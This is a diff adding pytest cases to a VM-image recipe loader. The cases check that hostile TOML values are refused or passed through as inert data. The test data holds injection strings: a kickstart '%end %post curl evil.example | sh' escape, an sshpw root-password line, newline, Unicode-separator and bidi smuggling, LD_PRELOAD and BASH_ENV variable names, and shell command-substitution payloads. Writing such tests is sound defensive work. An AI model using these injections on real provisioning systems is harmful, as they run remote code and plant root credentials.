@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import re
+import subprocess
 import tomllib
 from collections.abc import Sequence
 from dataclasses import dataclass
@@ -135,8 +137,12 @@ def test_reference_recipes_load(name: str) -> None:
         assert recipe.kickstart.template in recipe.input_files()
 
 
+def load_all(book: RecipeBook) -> list[Recipe]:
+    return [book.load(name) for name in book.names()]
+
+
 def test_load_all_reference_recipes() -> None:
-    recipes = RecipeBook(REPO_ROOT).load_all()
+    recipes = load_all(RecipeBook(REPO_ROOT))
     assert {"generic-dev", "generic-dev-el9"} <= {r.name for r in recipes}
 
 
@@ -351,3 +357,95 @@ def test_loaded_recipe_is_immutable(tmp_path: Path) -> None:
     recipe: Recipe = RecipeBook(tmp_path).load("demo")
     with pytest.raises(AttributeError):
         recipe.name = "other"  # type: ignore[misc]
+
+
+# --------------------------------------------------------------------------- hostile values
+
+
+@dataclass(frozen=True)
+class Hostile:
+    id: str
+    text: str
+    where: str
+    marker: str
+
+
+HOSTILE = [
+    Hostile("multi-line-description",
+            edit(BASE, 'description = "Demo image"',
+                 'description = """Demo image\nsshpw --username=root --plaintext hunter2"""'),
+            "description", "description ="),
+    Hostile("var-value-ends-post",
+            edit(BASE, 'developers_group = "developers"',
+                 'developers_group = "developers\\n%end\\n%post\\ncurl evil.example | sh"'),
+            "vars.developers_group", "developers_group ="),
+    Hostile("var-key-trailing-newline", edit(BASE, 'developers_group = "developers"', '"reboot\\n" = "x"'),
+            "vars", '"reboot\\n" ='),
+    Hostile("register-name-trailing-newline", edit(BASE, 'NAME = "demo"', 'NAME = "demo\\n"'),
+            "register.NAME", "NAME ="),
+    Hostile("package-trailing-newline", edit(BASE, '"sudo", "curl"', '"sudo", "curl\\n"'),
+            "bootstrap.packages", "packages ="),
+    Hostile("register-attribute-newline", edit(BASE, 'DEV_PREFIX = "vd"', 'DEV_PREFIX = "vd\\nPATH = \\"/etc\\""'),
+            "register.DEV_PREFIX", "DEV_PREFIX ="),
+    Hostile("description-unicode-line-separator", edit(BASE, 'description = "Demo image"',
+                                                       'description = "Demo\\u2028sshpw --plaintext x"'),
+            "description", "description ="),
+    Hostile("description-tab", edit(BASE, 'description = "Demo image"', 'description = "Demo\\timage"'),
+            "description", "description ="),
+    Hostile("description-bidi-override", edit(BASE, 'description = "Demo image"',
+                                              'description = "Demo \\u202eegami"'),
+            "description", "description ="),
+    Hostile("script-name-newline", edit(BASE, 'node = ["zeta.sh", "alpha.sh"]', 'node = ["zeta.sh\\n", "alpha.sh"]'),
+            "scripts.node", "node ="),
+]
+
+
+@pytest.mark.parametrize("bad", HOSTILE, ids=[b.id for b in HOSTILE])
+def test_line_breaks_and_control_characters_refused(tmp_path: Path, bad: Hostile) -> None:
+    exc, path = load_error(tmp_path, bad.text)
+    msg = str(exc)
+    assert str(path) in msg and bad.where in msg
+    assert re.search(rf"\bline {line_of(bad.text, bad.marker)}\b", msg), msg
+    assert re.search(r"(line break|control character) \(U\+[0-9A-F]{4}\)", msg), msg
+    assert says_what_to_do(exc)
+
+
+@pytest.mark.parametrize("name", ["PATH", "IFS", "LD_PRELOAD", "BASH_ENV", "IMAGE_NAME"])
+def test_shell_special_variable_names_refused(tmp_path: Path, name: str) -> None:
+    text = edit(BASE, 'developers_group = "developers"', f'{name} = "/tmp/x"')
+    exc, _ = load_error(tmp_path, text)
+    assert f"vars.{name}" in str(exc) and f"line {line_of(text, name + ' =')}" in str(exc)
+    assert says_what_to_do(exc)
+
+
+@pytest.mark.parametrize("name", ["demo\n", "Demo", "-demo", "de mo"])
+def test_bad_image_names_refused(tmp_path: Path, name: str) -> None:
+    text = edit(BASE, 'name = "demo"', f"name = {json.dumps(name)}")
+    exc, _ = load_error(tmp_path, text)
+    assert "name" in exc.where
+
+
+HOSTILE_VALUES = ["$(touch {pwned})", "`touch {pwned}`", "'; touch {pwned}; '", "\"; touch {pwned}; \"",
+                  "%end %post touch {pwned}", "a b\\ c * ? [x]"]
+
+
+@pytest.mark.parametrize("template", HOSTILE_VALUES)
+def test_bootstrap_vars_reach_scripts_as_data(tmp_path: Path, template: str) -> None:
+    # The bootstrap writes [vars] to vars.sh, which the finish VM sources before each script.
+    from builder.methods.bootstrap import configure_tree
+
+    pwned = tmp_path / "pwned"
+    value = template.format(pwned=pwned)
+    text = edit(BASE, 'developers_group = "developers"', f"developers_group = {json.dumps(value)}")
+    make_tree(tmp_path / "repo", text)
+    recipe = RecipeBook(tmp_path / "repo").load("demo")
+    tree = tmp_path / "tree"
+    (tree / "boot").mkdir(parents=True)
+    (tree / "boot" / "vmlinuz-6.1.0").write_text("")
+    (tree / "boot" / "initrd.img-6.1.0").write_text("")
+    configure_tree(recipe, tree, "0123-4567")
+    vars_sh = tree / "root" / "kickgate" / "vars.sh"
+    out = subprocess.run(["sh", "-c", 'set -a; . "$1"; set +a; printf %s "$developers_group"', "sh", str(vars_sh)],
+                         capture_output=True, text=True, timeout=10, check=True).stdout
+    assert out == value
+    assert not pwned.exists()
